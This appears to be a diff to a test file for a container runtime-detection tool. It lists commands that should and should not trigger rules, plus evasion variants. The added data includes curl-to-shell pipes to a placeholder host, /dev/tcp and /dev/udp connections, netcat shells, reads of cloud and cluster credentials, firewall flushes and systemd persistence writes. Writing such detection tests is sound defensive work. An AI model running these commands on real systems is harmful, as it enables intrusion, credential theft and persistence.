@@ -87,9 +87,14 @@ DEEDS = {
     "Download goes into a shell": ("sh -c 'curl -s http://x.invalid/a | sh'",
                                    "sh -c 'curl -s http://x.invalid/a | cat'"),
     "Decoded text is executed": ("sh -c 'echo Og== | base64 -d | sh'", "sh -c 'echo Og== | base64 -d | cat'"),
-    "Interpreter runs a one-line network program": ("python3 -c 'import socket'", "python3 -c 'import os'"),
+    "Command is longer than can be read": ("printf -v x %5000s; bash -c \"$x:\"", "printf -v x %3000s; bash -c \"$x:\""),
+    "Interpreter runs a one-line network program": (
+        "python3 -c 'import socket,os; os.dup2(1, 2)'",
+        "python3 -c 'import socket; socket.create_connection((\"localhost\", 80))'"),
+    "Interpreter asks the network by one line": ("python3 -c 'import socket'", "python3 -c 'import os'"),
+    "Shell connects to its neighbours": ("bash -c ': </dev/udp/10.0.0.9/443'", "bash -c ': </dev/udp/203.0.113.9/443'"),
     "Shell connects to the network": ("bash -c ': </dev/tcp/203.0.113.9/443'",
-                                      "bash -c ': </dev/tcp/127.0.0.1/443'"),
+                                      "bash -c ': </dev/tcp/127.0.0.1/443; : </dev/udp/192.168.1.1/443'"),
     "Server starts a tool": ("nginx run id", "app run id"),
     "Download tool runs": ("/opt/t/curl http://x.invalid", "/opt/t/curlew http://x.invalid"),
     "Tool for containers or clusters runs": ("kubectl get pods", "kubelet get pods"),
@@ -164,6 +169,7 @@ DEEDS = {
                                  "deed read /sys/kernel/tracing/tracing_on"),
     "Monitor to be stopped": ("pkill falco", "pkill app"),
     "Protection switched off": ("deed write /sys/fs/selinux/enforce", "deed read /sys/fs/selinux/enforce"),
+    "Rules of the firewall removed": ("iptables -F", "iptables -L"),
     "Kernel module removed from a container": ("deed delete_module", "deed finit_module"),
     "File made unchangeable": ("chattr +i /tmp/x", "chattr -i /tmp/x"),
     "Times of a file set by hand": ("touch -d 2001-01-01 /tmp/file", "touch /tmp/file"),
@@ -220,9 +226,14 @@ PRETENDERS = {
     "Netcat listens": ["ln -s /opt/t/nc /tmp/n; /tmp/n -l -p 4444"],
     "Shell connects to the network": ["exec 3>/proc/$$/comm; echo app >&3; : </dev/tcp/203.0.113.9/443"],
     "Shell started by a server": ["nginx as app run sh -c :"],
-    "Interpreter runs a one-line network program": ["python3 -c $'\\nimport socket'", "perl -e 'use Socket'",
-                                                    "python3 -c 'import pty; pty.spawn(1)'"],
-    "Download goes into a shell": ["sh -c $'curl -s http://x.invalid/a |\\n/bin/sh; true'"],
+    "Interpreter runs a one-line network program": ["python3 -c $'\\nimport socket; exec(x)'", "perl -e 'use Socket; system(1)'",
+                                                    "python3 -c 'import pty; pty.spawn(1)'",
+                                                    "python3 -c 'exec(urlopen(1).read())'"],
+    "Download goes into a shell": ["sh -c $'curl -s http://x.invalid/a |\\n/bin/sh; true'",
+                                   "sh -c 'curl -s http://x.invalid/a | tee /tmp/file | sudo -E bash -'",
+                                   "bash -c 'bash <(curl -s http://x.invalid/a)'",
+                                   "sh -c 'eval \"$(curl -s http://x.invalid/a)\"'"],
+    "Decoded text is executed": ["sh -c 'echo Og== | base64 -d | cat | sh'"],
     "Shell reads from the network": ["deed socket-stdin busybox sh -c :", "deed as app socket-stdin python3 -c 1",
                                      "cp /opt/t/deed /dev/shm/app; deed socket-stdin /dev/shm/app nothing",
                                      "cp /bin/busybox /opt/x; deed socket-stdin /opt/x true",
@@ -241,8 +252,18 @@ OTHER_WAYS = {
     "Package manager is given a command": ["/usr/bin/rpm --eval '%(id)' || :"],
     "Netcat runs a program": ["busybox nc 127.0.0.1 9 -e /bin/sh || :", "socat tcp:127.0.0.1:9 EXEC:/bin/sh || :"],
     "Service account token read by a tool": ["busybox cat /run/secrets/kubernetes.io/serviceaccount/token",
-                                             "nl /run/secrets/kubernetes.io/serviceaccount/token"],
-    "Cloud credentials read by a tool": ["tac /root/.aws/credentials"],
+                                             "nl /run/secrets/kubernetes.io/serviceaccount/token",
+                                             "cd /opt; mkdir -p pods/u/volumes/kubernetes.io~projected/x; cd pods/u/volumes/kubernetes.io~projected/x; "
+                                             ": >token; cat token"],
+    "Cloud credentials read by a tool": ["tac /root/.aws/credentials", "read x </root/.aws/credentials",
+                                         ": >/root/.vault-token; cat /root/.vault-token"],
+    "Cluster's own keys read": ["mkdir -p /etc/rancher/k3s; : >/etc/rancher/k3s/k3s.yaml; cat /etc/rancher/k3s/k3s.yaml",
+                                "cd /opt; mkdir -p k3s/server/tls; : >k3s/server/tls/ca.key; cat k3s/server/tls/ca.key"],
+    "Shell history read by a tool": ["busybox cat /root/.bash_history", ": >/root/.psql_history; cat /root/.psql_history"],
+    "Cluster's API asked by a tool": ["curl connect 10.0.0.1 2375"],
+    "Cryptocurrency miner runs": ["printf -v x %093d; app -u 44${x//0/A}"],
+    "Disk or memory device opened": ["mkdir -p /dev/cpu/0; : >/dev/cpu/0/msr"],
+    "Rules of the firewall removed": ["iptables -t nat --flush", "iptables -P INPUT ACCEPT"],
     "Block device made": ["mknod /tmp/mem c 1 1"],
     "Kernel helper path written": ["deed write /proc/sys/kernel/poweroff_cmd"],
     "Cloud metadata asked for": ["deed messages 169.254.169.254 80", "deed connect 169.254.170.23 80",
@@ -254,8 +275,11 @@ OTHER_WAYS = {
     "SSH authorized keys written": ["mv /tmp/file /root/.ssh/authorized_keys; : >/tmp/file"],
     "Library preloaded into every program": ["mv /tmp/file /etc/ld.so.preload; unlink /etc/ld.so.preload; : >/tmp/file"],
     "Accounts changed by hand": ["cp /etc/hosts /etc/group.new; mv /etc/group.new /etc/group"],
-    "Shell's start files written": ["ln -s /tmp/file /root/.zshrc"],
-    "Service written": ["ln -s /tmp/file /etc/systemd/system/link.service"],
+    "Shell's start files written": ["ln -s /tmp/file /root/.zshrc", "deed write /root/.ssh/rc"],
+    "Service written": ["ln -s /tmp/file /etc/systemd/system/link.service",
+                        "mkdir -p /run/systemd/system; deed write /run/systemd/system/x.service",
+                        "mkdir -p /root/.config/systemd/user; deed write /root/.config/systemd/user/x.service",
+                        "mkdir -p /etc/udev/rules.d; deed write /etc/udev/rules.d/x.rules"],
     "Loader's paths written": ["deed write /etc/ld.so.cache; rm /etc/ld.so.cache", "mv /tmp/file /etc/ld.so.conf.d/moved.conf; : >/tmp/file"],
     "Certificate authority added": ["mv /tmp/file /usr/local/share/ca-certificates/moved.crt; : >/tmp/file"],
     "Names sent elsewhere": ["cp /etc/hosts /etc/new; mv /etc/new /etc/nsswitch.conf"],
@@ -273,6 +297,9 @@ RIGHTFUL = {
     "Accounts changed by hand": ["adduser", "addgroup"],  # scripts, of bash and of busybox
     "Raw socket made": ["traceroute raw"],  # a link to one of some
     "Password hashes read": ["/opt/t/../../usr/bin/sshd read /etc/shadow"],
+    "Download goes into a shell": ["sh -c '[ \"$(curl -s http://x.invalid/a)\" = 200 ] || exit 1'",
+                                   "sh -c 'curl -sf http://x.invalid/a || sh -c :'"],
+    "Everything removed": ["a=({1..1000}); /opt/t/rm -rf -vvvv ${a[@]/#/\\/usr\\/x}"],
 }
 SCRIPTS = {"adduser": "#!/bin/bash -e\n: >>/etc/passwd\n", "addgroup": "#!/bin/sh\n: >>/etc/passwd\n"}
 
@@ -299,7 +326,7 @@ CHANGED = "Argument changed under a call"
 OUTSIDE = {ENTERED, PRIVILEGED, DIRECTORIES, HOST_FILE, CHANGED}
 
 # Programs by other names; what they do is said by their first argument.
-NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb kubectl kubelet
+NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb iptables kubectl kubelet
 kworker linpeas.sh linpeas.txt logrotate map nc nginx nmap openssl perl ping pkexec pkill python3 rm socat ssh sshd
 sshdd sshh strace systemctl useradd worker""".split()
 
